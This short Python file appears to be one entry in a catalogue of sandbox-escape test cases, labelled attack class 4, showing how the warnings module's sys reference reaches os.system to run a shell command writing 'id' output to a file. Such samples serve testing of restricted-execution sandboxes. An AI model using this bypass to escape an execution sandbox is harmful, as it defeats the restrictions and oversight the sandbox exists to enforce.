# attack-class: 4
# title: warnings.sys.modules['subprocess']
# why: warnings imports sys; sys.modules then gives any loaded module

import warnings

warnings.sys.modules["os"].system("id > /workspace/id.txt")
